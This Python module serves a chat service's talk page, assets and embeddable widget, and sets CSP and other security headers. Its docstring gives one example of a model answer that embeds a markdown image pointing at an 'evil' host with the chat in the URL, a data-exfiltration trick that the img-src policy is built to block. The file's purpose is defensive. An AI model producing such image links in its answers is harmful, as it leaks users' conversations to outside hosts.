"""The talk page behind a session's talkUrl: `GET /chat/<access_key>` and its static assets.

The page is rendered server-side with the chat client's look (title, colour, greeting, custom
CSS) and the chosen language's strings, so the first paint is already right; `static/talk.js`
then restores the conversation and talks to the public session API (see docs in talk.js).

Why the headers look the way they do:
- `frame-ancestors` enforces the client's `allowedFrameOrigins` (empty list: any origin).
- `script-src 'nonce-…' 'strict-dynamic'`: only the page's own scripts (and what they load) run,
  so even a sanitiser bug cannot execute HTML that a user or a model wrote.
- `Referrer-Policy: no-referrer`: the access key is in the URL and must not leak to linked sites.
- The page and its files go out compressed with per-encoding ETags (chinwag/http/assets.py), and
  its scripts are `async`, so a first visit is light and parsing never waits for a script.
- `img-src` (and `media-src`): images load only from the page's own origin, `data:`/`blob:`, the
  logo's origin and the client's `imageOrigins`, so a model answer such as
  `![x](http://evil/?c=<chat>)` cannot make the browser call that host; talk.js renders such
  images as links (the CSP is the backstop if a renderer ever lets one through).

`GET /widget.js` is the embeddable launcher (static/widget.js); `?embed=1` is the talk page as
the widget's panel (no page header: the panel has its own, with the title and a close button).
"""

from __future__ import annotations

import hashlib
import re
import secrets
from functools import cache
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import msgspec
from markupsafe import Markup
from quart import Blueprint, Response, render_template, request

from chinwag import errors
from chinwag.http import i18n
from chinwag.http.assets import StaticFiles, compressed_page, static_response
from chinwag.http.envelope import fail
from chinwag.http.links import talk_page_config
from chinwag.http.openapi import doc
from chinwag.records import ChatClient, ClientParameters, Session, to_builtins
from chinwag.rules.bounds import ACCESS_KEY_PREFIX, MAX_IMAGE_BYTES
from chinwag.rules.fields import CssColor

STATIC_DIR = Path(__file__).parent / "static"
STATIC_FILES = StaticFiles(STATIC_DIR)
# /widget.js has a fixed URL (host pages embed it), so it is revalidated rather than immutable.
WIDGET_CACHE_CONTROL = "public, max-age=3600, stale-while-revalidate=86400"
ASSET_PREFIX = "/static/talk"
MAX_ACCESS_KEY_LENGTH = 512

blueprint = Blueprint("talk", __name__, template_folder="templates")

# One frame-ancestors source: a scheme, a host (with optional scheme, wildcard and port) or 'self'.
_FRAME_SOURCE = re.compile(r"^('self'|[a-zA-Z][a-zA-Z0-9+.-]*:(//[^\s;,']+)?|[^\s;,':]+(:\d+)?)$")
# A host name or IP literal as it may appear in a CSP source (brackets for IPv6).
_HOST = re.compile(r"^(\[[0-9a-f:.]+\]|[a-z0-9.-]+)$")


def _service() -> Any:
    from chinwag.http import deps

    return deps.service()


def _max_body_bytes() -> int:
    try:
        from chinwag.http import deps

        return int(deps.settings().max_prompt_body_bytes)  # the prompt route's cap (bodies.py)
    except Exception:  # settings not wired: the page's own default applies
        return 8 * 1024 * 1024


@cache
def _asset_version(name: str) -> str:
    """A short content hash, so a new release never runs against a cached old script."""
    return hashlib.sha256((STATIC_DIR / name).read_bytes()).hexdigest()[:12]


def embed_mode() -> bool:
    """`?embed=1`: the page is the widget's panel (see static/widget.js)."""
    return request.args.get("embed") == "1"


def asset_url(name: str) -> str:
    """Page-relative URL of a static asset (works behind a reverse-proxy path prefix)."""
    return f"../static/talk/{name}?v={_asset_version(name)}"


def css_text(text: str | None) -> Markup:
    """Custom CSS for a <style> element: raw (entities are not decoded there), but it cannot
    close the element early."""
    return Markup(re.sub(r"</(?=style)", r"<\\/", text or "", flags=re.IGNORECASE))


def primary_color(value: str | None) -> str | None:
    """The client's primaryColor when it passes the input rule (`rules.fields.CssColor`), else
    None (default theme): a record stored before that rule may hold anything."""
    if not value:
        return None
    try:
        return msgspec.convert(value.strip(), CssColor)
    except msgspec.ValidationError:
        return None


def frame_ancestors(origins: list[str]) -> str:
    """The CSP frame-ancestors value for a client's allowedFrameOrigins."""
    sources = [o.strip().rstrip("/") for o in origins if o and _FRAME_SOURCE.match(o.strip())]
    if not origins:
        return "*"
    return " ".join(["'self'", *sources])


def _origin(url: str | None) -> str | None:
    """`scheme://host[:port]` of an http(s) URL (lower case, no credentials), else None."""
    if not url:
        return None
    try:
        parts = urlsplit(url.strip())
        port = parts.port
    except ValueError:
        return None
    if parts.scheme.lower() not in ("http", "https") or not parts.hostname:
        return None
    host = parts.hostname.lower()
    host = f"[{host}]" if ":" in host else host
    if not _HOST.match(host):
        return None
    return f"{parts.scheme.lower()}://{host}" + (f":{port}" if port else "")


def image_origins(params: ClientParameters | None) -> list[str]:
    """The origins besides the page's own that images may load from: the logo's origin and
    the client's `imageOrigins` (each checked again: they become CSP sources)."""
    if params is None:
        return []
    found = [_origin(params.logo_image_url), *(_origin(o) for o in params.image_origins)]
    return list(dict.fromkeys(o for o in found if o))


def _security_headers(
    response: Response, nonce: str, ancestors: str, images: list[str] | None = None
) -> Response:
    image_sources = " ".join(["'self'", "data:", "blob:", *(images or [])])
    # default-src 'none': anything not listed (frames, workers, manifests…) is refused. Styles:
    # talk.css and the page's own <style> elements (nonce); the page only calls its own origin.
    response.headers["Content-Security-Policy"] = (
        "default-src 'none'; "
        f"frame-ancestors {ancestors}; "
        f"script-src 'nonce-{nonce}' 'strict-dynamic' 'unsafe-inline' https: http:; "
        f"style-src 'self' 'nonce-{nonce}'; connect-src 'self'; font-src 'self' data:; "
        f"img-src {image_sources}; media-src 'self' data: blob:; "
        "object-src 'none'; base-uri 'none'"
    )
    response.headers["Referrer-Policy"] = "no-referrer"
    response.headers["X-Content-Type-Options"] = "nosniff"
    response.headers["Cache-Control"] = "no-store"
    response.headers["X-Robots-Tag"] = "noindex, nofollow"
    return response


def page_config(
    access_key: str, session: Session, params: ClientParameters, language: str
) -> dict[str, Any]:
    """What talk.js needs, embedded as JSON (never the gateway, its key or the metadata)."""
    strings = i18n.strings(language)
    return {
        "accessKey": access_key,
        "language": language,
        "strings": strings,
        "pageTitle": params.page_title or strings["pageTitle"],
        "primaryColor": primary_color(params.primary_color),
        "helloLabel": params.hello_label or strings["hello"],
        "helloSubLabel": params.hello_sub_label
        if params.hello_sub_label is not None
        # "…or pick a suggestion" only when there are suggestions to pick.
        else strings["helloSub" if params.suggestion_buttons else "helloSubPlain"],
        "textAreaPlaceholder": params.text_area_placeholder or strings["placeholder"],
        "logoImageUrl": params.logo_image_url,
        "imageOrigins": image_origins(params),
        "suggestionButtons": to_builtins(params.suggestion_buttons),
        "customScripts": params.custom_scripts or "",
        "debug": params.debug,
        "showToolCalls": params.show_tool_calls,
        "inputModes": list(params.input_modes),
        "expiresAt": session.expires_at,
        "maxImageBytes": min(MAX_IMAGE_BYTES, int(_max_body_bytes() * 0.7)),
    }


async def _notice(
    kind: str, language: str, status: int, params: ClientParameters | None, expired_at: float
) -> Response:
    """A full-page localised notice: the invalid-link or the session-expired screen."""
    nonce = secrets.token_urlsafe(18)
    strings = i18n.strings(language)
    body = await render_template(
        "talk_notice.html",
        kind=kind,
        language=language,
        strings=strings,
        nonce=nonce,
        asset=asset_url,
        page_title=(params.page_title if params else None) or strings["pageTitle"],
        primary=primary_color(params.primary_color if params else None),
        logo=params.logo_image_url if params else None,
        custom_styles=css_text(params.custom_styles if params else None),
        notice={"language": language, "expiredAt": expired_at, "template": strings["expiredAt"]},
    )
    ancestors = frame_ancestors(params.allowed_frame_origins) if params else "*"
    return _security_headers(
        compressed_page(request, body, status), nonce, ancestors, image_origins(params)
    )


def _continue_config(client: ChatClient, session: Session, language: str) -> dict[str, Any]:
    """ "Continue on Telegram / WhatsApp" (chinwag.http.links)."""
    return talk_page_config(client, session, language)


@blueprint.get("/chat/<access_key>")
@doc(
    "The talk page of the session this access key opens (HTML)",
    auth="accessKey",
    produces=("text/html",),
    errors_produce=("text/html",),
    description="An unknown key answers 404 and an expired session 401, both as an HTML page "
    "in the page's language.",
)
async def talk_page(access_key: str) -> Response:
    """The chat page of the session this access key opens."""
    accept = request.headers.get("Accept-Language")
    if not access_key.startswith(ACCESS_KEY_PREFIX) or len(access_key) > MAX_ACCESS_KEY_LENGTH:
        return await _notice("invalid", i18n.choose(None, accept), 404, None, 0.0)
    service = _service()
    try:
        session: Session = service.resolve_access_key(access_key, allow_expired=True)
        client: ChatClient = service.get_client(session.client_id)
    except errors.ChinwagError as error:
        if error.status in (401, 403, 404, 400):
            return await _notice("invalid", i18n.choose(None, accept), 404, None, 0.0)
        raise
    params = client.client_parameters
    language, language_source = i18n.choose_with_source(
        params.language_code, accept, request.args.get("lang")
    )
    try:
        service.resolve_access_key(access_key)
    except errors.SessionExpired:
        return await _notice("expired", language, 401, params, session.expires_at)
    except errors.ChinwagError as error:
        if error.status in (401, 403, 404, 400):
            return await _notice("invalid", language, 404, params, 0.0)
        raise

    nonce = secrets.token_urlsafe(18)
    config = page_config(access_key, session, params, language)
    config["languageSource"] = language_source
    config["embed"] = embed_mode()
    config.update(_continue_config(client, session, language))
    body = await render_template(
        "talk.html",
        language=language,
        strings=config["strings"],
        config=config,
        nonce=nonce,
        asset=asset_url,
        page_title=config["pageTitle"],
        primary=config["primaryColor"],
        logo=params.logo_image_url,
        custom_styles=css_text(params.custom_styles),
        embed=config["embed"],
    )
    response = compressed_page(request, body, 200)
    return _security_headers(
        response, nonce, frame_ancestors(params.allowed_frame_origins), image_origins(params)
    )


@blueprint.get(f"{ASSET_PREFIX}/<path:filename>")
async def talk_asset(filename: str) -> Response:
    """The page's scripts, styles, catalog and vendored libraries (no CDN at run time)."""
    file = STATIC_FILES.get(filename)
    if file is None:
        return fail(404, f"No static file {filename!r}.")
    versioned = request.args.get("v") == file.digest[:12]
    cache_control = "public, max-age=31536000, immutable" if versioned else "public, max-age=300"
    return static_response(request, file, cache_control)


@blueprint.get("/widget.js")
@doc(
    "The chat widget script: a launcher and panel any site adds with one script tag",
    produces=("text/javascript",),
    also={304: "Not modified (the ETag given in If-None-Match still matches)."},
    description='<script src="<public URL>/widget.js" data-talk-url="<talkUrl>" async></script>',
)
async def widget_script() -> Response:
    """The launcher any site adds with one script tag (see static/widget.js and the README)."""
    file = STATIC_FILES.get("widget.js")
    if file is None:
        return fail(404, "The widget is not available.")
    response = static_response(request, file, WIDGET_CACHE_CONTROL)
    # Hosts that isolate themselves (COEP) may still load it.
    response.headers["Cross-Origin-Resource-Policy"] = "cross-origin"
    return response
